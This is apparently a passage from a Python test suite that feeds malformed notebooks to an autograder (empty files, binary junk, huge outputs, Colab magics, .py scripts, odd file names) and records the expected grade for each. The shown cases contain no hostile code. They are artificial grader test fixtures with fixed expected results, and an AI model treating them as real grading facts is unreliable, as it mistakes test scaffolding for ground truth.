            "the loader reads v3 as well as v4",
            _as_v3,
            Expected(100),
        ),
        Attack(
            "no_code_cells", "broken input",
            "a notebook with only the markdown cells",
            "graded: every check is 'missing' (the function is not defined)",
            _no_code,
            Expected(0, questions=ZERO, all_checks="missing", words={"softmax": ("softmax",)}),
        ),
        Attack(
            "empty_file", "broken input",
            "a 0-byte .ipynb",
            "graded invalid: 'the file is empty'",
            lambda t: b"",
            Expected(0, status="invalid", questions=ZERO, all_checks="not_run", words={"message": ("vacío",)}),
        ),
        Attack(
            "binary_junk", "broken input",
            "4 KiB of binary junk named .ipynb",
            "graded invalid: 'not UTF-8 text'",
            lambda t: bytes((i * 197 + 91) % 256 for i in range(4096)),
            Expected(0, status="invalid", questions=ZERO, all_checks="not_run", words={"message": ("UTF-8",)}),
        ),
        Attack(
            "output_cell_50mb", "broken input",
            "the solved notebook with a 50 MB stored output in one cell",
            "stored outputs are ignored; the notebook is graded normally",
            _huge_output,
            Expected(100),
        ),
        Attack(
            "pip_and_colab", "broken input",
            "a first cell with `!pip install`, `%matplotlib inline`, `from google.colab import drive`, "
            "`drive.mount(...)`",
            "shell escapes are skipped, display magics ignored, google.colab is a no-op stand-in",
            _colab,
            Expected(100),
        ),
        Attack(
            "py_file", "broken input",
            "the solution as a .py script (nbconvert's `# In[ ]:` markers) instead of a notebook",
            "a .py is graded as one cell, with a note saying so",
            _as_py,
            Expected(100, words={"message": (".py",)}),
            file="py_file/tarea1.py",
        ),
        Attack(
            "odd_file_name", "broken input",
            "a flat file named 'José Núñez (copia).ipynb' (spaces, accents, parentheses)",
            "the student is named after the file, as is; feedback and CSV keep the name",
            lambda t: notebook(),
            Expected(100),
            file="José Núñez (copia).ipynb",
            student="José Núñez (copia)",
        ),
    ]


ATTACKS: list[Attack] = _tampering() + _escapes() + _resources() + _broken()
BY_NAME = {a.name: a for a in ATTACKS}

assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"
assert all(a.category in CATEGORIES for a in ATTACKS)
assert all(abs(sum(a.expected.question_points().values()) - a.expected.score) < 1e-6 for a in ATTACKS), \
    [a.name for a in ATTACKS if abs(sum(a.expected.question_points().values()) - a.expected.score) >= 1e-6]
